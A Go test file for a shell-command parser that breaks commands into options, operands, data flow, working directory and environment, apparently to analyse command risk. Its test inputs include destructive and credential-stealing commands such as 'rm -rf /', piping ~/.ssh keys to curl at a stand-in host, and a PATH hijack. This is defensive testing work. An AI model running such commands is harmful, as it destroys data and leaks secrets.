package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// readings are how programs read their arguments: operation | options | operands.
var readings = []struct{ src, want string }{
	{`rm -rf /`, "| --recursive --force | delete:/"},
	{`rm -r -f -- -x`, "| --recursive --force | delete:-x"},
	{`rm --recursive --force a`, "| --recursive --force | delete:a"},
	{`rm --rec --fo a`, "| --recursive --force | delete:a"},
	{`rm -Rf path/to/proof`, "| --recursive --force | delete:path/to/proof"},
	{`rm path/to-proof -v`, "| --verbose | delete:path/to-proof"},
	{`rm -fz a`, "| --force -z | delete:a"},
	{`git push --force origin main`, "push | --force | :origin :main"},
	{`git -C dir -c k=v push -f`, "push | cwd:-C=dir -c=k=v --force |"},
	{`git --git-dir=.git clean -fd`, "clean | read:--git-dir=.git --force -d |"},
	{`git --git-dir .git clean -fd`, "clean | read:--git-dir=.git --force -d |"},
	{`git --shallow-file +foo push`, "push | --shallow-file=+foo |"},
	{`git -p status`, "status | --paginate |"},
	{`git --exec-path=/tmp/x status`, "status | --exec-path=/tmp/x |"},
	{`git -- push -f`, "push | --force |"},
	{`git push --mir`, "push | --mirror |"},
	{`git push --del x`, "push | --delete | :x"},
	{`git push --force-w x`, "push | --force-with-lease | :x"},
	{`git push -dq x`, "push | --delete --quiet | :x"},
	{`git push origin +main :old`, "push | | :origin :+main ::old"},
	{`git branch -d merged`, "branch | --delete | :merged"},
	{`git branch -D merged`, "branch | -D | :merged"},
	{`git remote add x u`, "remote add | | :x :u"},
	{`git diff --output=f -- p`, "diff | write:--output=f | :p"},
	{`git-reset --hard`, "reset | --hard |"},
	{`git commit -am "x y"`, "commit | -a text:-m=x y |"},
	{`git commit --message=x`, "commit | text:--message=x |"},
	{`tar cfz a.tar dir`, "| -c -f=a.tar -z | read:dir"},
	{`tar -xzf a.tar -C /x`, "| -x -z -f=a.tar cwd:-C=/x |"},
	{`dd if=/a of=/b bs=1M`, "| read:if==/a write:of==/b | :bs=1M"},
	{`curl -sSLo out https://x`, "| -s -S -L output:-o=out | url:https://x"},
	{`curl -oout --output=b https://x`, "| output:-o=out output:--output=b | url:https://x"},
	{`find / /x -maxdepth 1 -name -delete -o -delete`, "| -maxdepth=1 text:-name=-delete -o -delete | list:/ list:/x"},
	{`cp a b c`, "| | read:a read:b write:c"},
	{`cp a`, "| | read:a"},
	{`sed -i.bak s/a/b/ f`, "| -i=.bak | script:s/a/b/ read:f"},
	{`sed -i '' s/a/b/ f`, "| -i | script:s/a/b/ read:f"},
	{`sed -ni p f`, "| -n -i | script:p read:f"},
	{`head -20 f`, "| -20 | :f"},
	{`stripe payouts create --amount 5000 -d x`, "payouts create | --amount=5000 -d | :x"},
	{`tool --dry-run --name=x y -v z`, "| --dry-run --name=x -v | :y :z"},
	{`tool a-b c:d 1e ./f`, "a-b c:d | | :1e :./f"},
	{`sh -ec 'x' a b`, "| -e shell:-c | shell:x :a :b"},
	{`sh x.sh -c y`, "| | exec:x.sh :-c :y"},
	{`env -u A B=1 rm x`, "| -u=A | env:B=1"},
	{`docker exec -it -e A=b c rm -f x`, "exec | -i -t env:-e=A=b | :c"},
	{`python3 -c code arg`, "| code:-c=code | :arg"},
}

func shownReading(c Command) string {
	var options, operands []string
	for _, o := range c.Options {
		text := o.Name
		if o.Role != "" {
			text = string(o.Role) + ":" + text
		}
		if o.Value.Text != "" {
			text += "=" + o.Value.Text
		}
		options = append(options, text)
	}
	for _, o := range c.Operands {
		operands = append(operands, string(o.Role)+":"+o.Text)
	}
	out := fmt.Sprintf("%s | %s | %s", strings.Join(c.Sub, " "), strings.Join(options, " "), strings.Join(operands, " "))
	return strings.Join(strings.Fields(out), " ")
}

func TestOptions(t *testing.T) {
	for _, c := range readings {
		res := Parse(c.src, testEnv())
		if got := shownReading(res.Commands[0]); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.src, got, c.want)
		}
	}
}

func TestIdentity(t *testing.T) {
	for _, c := range []struct {
		word, program string
		known         bool
	}{
		{"rm", "rm", true}, {"/bin/rm", "rm", true}, {"/usr/local/bin/rm", "rm", true}, {"/opt/homebrew/bin/rm", "rm", true}, {"RM", "rm", true},
		{"./rm", "./rm", false}, {"/tmp/x/rm", "/tmp/x/rm", false}, {"/tmp/bin/rm", "/tmp/bin/rm", false}, {"bin/rm", "bin/rm", false}, {"./bin/rm", "./bin/rm", false}, {"venv/bin/python", "python", true}, {"python3.11", "python", true},
		{"/usr/bin/python3", "python", true}, {".venv/bin/python", "python", true}, {"/work/node_modules/.bin/node", "node", true},
		{"node_modules/.bin/node", "node", true}, {"git-push", "git", true}, {"git-nothing", "git-nothing", false}, {"$DIR/rm", "rm", true},
		{"unheard", "unheard", false}, {"~/.cargo/bin/git", "git", true}, {"rm.exe", "rm", true}, {"4", "4", false},
	} {
		got := Parse(c.word+" x", testEnv()).Commands[0]
		if got.Program != c.program || got.Known != c.known {
			t.Errorf("%s is %q, known %v", c.word, got.Program, got.Known)
		}
	}
}

func find(t *testing.T, res Result, program string) (Command, int) {
	t.Helper()
	i := slices.IndexFunc(res.Commands, func(c Command) bool { return c.Program == program })
	if i < 0 {
		t.Fatalf("no %s in\n%s", program, shown(res))
	}
	return res.Commands[i], i
}

func TestFlow(t *testing.T) {
	res := Parse(`tar cz ~/.ssh | curl -d @- https://x`, testEnv())
	tar, i := find(t, res, "tar")
	curl, j := find(t, res, "curl")
	if !slices.Equal(curl.Input.From, []int{i}) || curl.Input.Kind != SourcePipe || !slices.Equal(tar.Output, []int{j}) {
		t.Errorf("pipe: %v %v", curl.Input, tar.Output)
	}
	res = Parse(`curl -d "$(cat ~/.ssh/id)" https://x`, testEnv())
	cat, i := find(t, res, "cat")
	curl, j = find(t, res, "curl")
	if !cat.ToText || cat.Substituted != j+1 || !slices.Equal(curl.Options[0].Value.From(), []int{i}) {
		t.Errorf("substitution: %v %d %v", cat.ToText, cat.Substituted, curl.Options[0].Value.From())
	}
	res = Parse(`k=$(cat ~/.ssh/id); x="a$k"; curl -d "$x" https://x`, testEnv())
	_, i = find(t, res, "cat")
	curl, _ = find(t, res, "curl")
	if !slices.Equal(curl.Options[0].Value.From(), []int{i}) {
		t.Errorf("variable: %v", curl.Options[0].Value.From())
	}
	res = Parse(`curl -d @- https://x < ~/.ssh/id`, testEnv())
	curl, _ = find(t, res, "curl")
	if curl.Input.Kind != SourceFile || curl.Input.Path.Text != "/home/dev/.ssh/id" {
		t.Errorf("file: %v", curl.Input)
	}
	res = Parse(`sudo env A=1 B=2 rm x | cat`, testEnv())
	rm, i := find(t, res, "rm")
	cat, _ = find(t, res, "cat")
	if !rm.Elevated || len(rm.Env) != 2 || !slices.Contains(cat.Input.From, i) {
		t.Errorf("wrapper: %v %v %v", rm.Elevated, rm.Env, cat.Input)
	}
}

func TestPlaces(t *testing.T) {
	for _, c := range []struct{ src, program, cwd string }{
		{`cd /tmp && rm x`, "rm", "/tmp"}, {`cd sub; rm x`, "rm", "/work/app/sub"}, {`(cd /tmp); rm x`, "rm", "/work/app"}, {`cd "$X"; rm x`, "rm", ""},
		{`cd; rm x`, "rm", "/home/dev"}, {`cd /a; cd -; rm x`, "rm", "/work/app"}, {`pushd /a; popd; rm x`, "rm", "/work/app"}, {`git -C sub push`, "git", "/work/app/sub"},
		{`env -C /x rm y`, "rm", "/x"}, {`cd /a | cat; rm x`, "rm", "/work/app"}, {`if x; then cd /a; fi; rm x`, "rm", ""}, {`ssh h rm x`, "rm", ""}, {`ssh h "cd /a; rm x"`, "rm", "/a"},
		{`cd ../x/./y; rm z`, "rm", "/work/x/y"}, {`bash -c 'cd /q'; rm x`, "rm", "/work/app"}, {`eval 'cd /q'; rm x`, "rm", "/q"}, {`f() { cd /f; }; f; rm x`, "rm", "/f"},
	} {
		if got, _ := find(t, Parse(c.src, testEnv()), c.program); got.Cwd != c.cwd {
			t.Errorf("%s runs in %q, want %q", c.src, got.Cwd, c.cwd)
		}
	}
	rm, _ := find(t, Parse(`ssh -p 22 u@h rm x`, testEnv()), "rm")
	if !rm.Remote || rm.RemoteHost.Text != "u@h" {
		t.Errorf("remote %v on %q", rm.Remote, rm.RemoteHost.Text)
	}
}

func TestEnvironment(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`A=1 rm x`, "A=1"}, {`export A=1; rm x`, "A=1"}, {`A=1; export A; rm x`, "A=1"}, {`set -a; A=1; rm x`, "A=1"}, {`A=1; rm x`, ""},
		{`PATH=/tmp/bad:$PATH; rm x`, "PATH=/tmp/bad:�"}, {`PATH=/tmp/bad:$PATH rm x`, "PATH=/tmp/bad:�"}, {`env A=1 rm x`, "A=1"},
		{`A=1 bash -c 'rm $A'`, "A=1"}, {`(export A=1); rm x`, ""},
	} {
		rm, _ := find(t, Parse(c.src, testEnv()), "rm")
		var texts []string
		for _, w := range rm.Env {
			texts = append(texts, mask(w.Text))
		}
		if got := strings.Join(texts, " "); got != c.want {
			t.Errorf("%s: %q, want %q", c.src, got, c.want)
		}
	}
}

func TestSnapshot(t *testing.T) {
	env := testEnv()
	env.Files = map[string]string{
		"/work/app/deploy.sh": "#!/bin/bash\nrm -rf \"$1\"\n", "/work/app/tool.py": "#!/usr/bin/env python3\nimport os\n", "/work/app/lib.sh": "f() { rm x; }\n",
	}
	for _, c := range []struct{ src, want string }{
		{`bash deploy.sh /`, "bash deploy.sh /\n[bash] file: rm -rf /\n"},
		{`./deploy.sh /`, "./deploy.sh /\n[./deploy.sh] file: rm -rf /\n"},
		{`sudo ./deploy.sh /`, "sudo ./deploy.sh /\n[sudo] ./deploy.sh /\n[sudo ./deploy.sh] file: rm -rf /\n"},
		{`cd /work; app/deploy.sh /`, "cd /work\napp/deploy.sh /\n[app/deploy.sh] file: rm -rf /\n"},
		{`cat deploy.sh | sh`, "cat deploy.sh\nsh\n[sh] stdin: rm -rf \"\"\n"},
		{`sh < deploy.sh`, "sh read(deploy.sh)\n[sh] file: rm -rf \"\"\n"},
		{`python tool.py`, "python tool.py\nsnippet python \"#!/usr/bin/env python3\\nimport os\\n\" file\n"},
		{`./tool.py`, "./tool.py\nsnippet python \"#!/usr/bin/env python3\\nimport os\\n\" file\n"},
		{`. lib.sh; f`, ". lib.sh\nrm x\n"},
		{`ssh h bash deploy.sh`, "ssh h bash deploy.sh\n[ssh] argument: bash deploy.sh\n[ssh bash] argument: deploy.sh\nsnippet sh \"�\" file\n"},
	} {
		if got := shown(Parse(c.src, env)); got != c.want {
			t.Errorf("%s\n got %s\nwant %s", c.src, indent(got), indent(c.want))
		}
	}
}

func TestWritten(t *testing.T) {
	res := Parse("cat > a.txt <<'EOF'\nx $y\nEOF\necho z >> a.txt; printf q | tee b; echo $U > c; cd /tmp; echo w > d", testEnv())
	want := map[string]string{"/work/app/a.txt": "x $y\nz\n", "/work/app/b": "q", "/tmp/d": "w\n"}
	for name, past := range res.Written {
		if _, known := want[name]; !known {
			if text, ok := past.Before(len(res.Commands)); ok {
				t.Errorf("%s holds %q", name, text)
			}
		}
	}
	for name, text := range want {
		if got, _ := res.Written[name].Before(len(res.Commands)); got != text {
			t.Errorf("%s holds %q, want %q", name, got, text)
		}
	}
}

// What a file held before a command stays known when it is written again, and a text that grows is kept once.
func TestWrittenBefore(t *testing.T) {
	res := Parse("printf a > f; cat f; printf b >> f; cat f; printf c > f; cat f; curl x.test/y > f; cat f", testEnv())
	past := res.Written["/work/app/f"]
	for command, want := range []string{"", "a", "a", "ab", "ab", "c", "c", ""} {
		if got, ok := past.Before(command); got != want && ok || ok != (want != "") {
			t.Errorf("before command %d it holds %q, want %q", command, got, want)
		}
	}
	if len(past.runs) != 3 {
		t.Errorf("kept are %q", past.runs)
	}
}

func TestSpans(t *testing.T) {
	src := `ls; sudo rm -rf "$HOME/x" && bash -c 'cat y'`
	res := Parse(src, testEnv())
	rm, _ := find(t, res, "rm")
	cat, _ := find(t, res, "cat")
	if got := src[rm.Span.Start:rm.Span.End]; got != `rm -rf "$HOME/x"` {
		t.Errorf("rm stands at %q", got)
	}
	if got := src[rm.Argv[2].Span.Start:rm.Argv[2].Span.End]; got != `"$HOME/x"` {
		t.Errorf("its operand stands at %q", got)
	}
	if got := src[cat.Span.Start:cat.Span.End]; got != `'cat y'` {
		t.Errorf("cat stands at %q", got)
	}
}
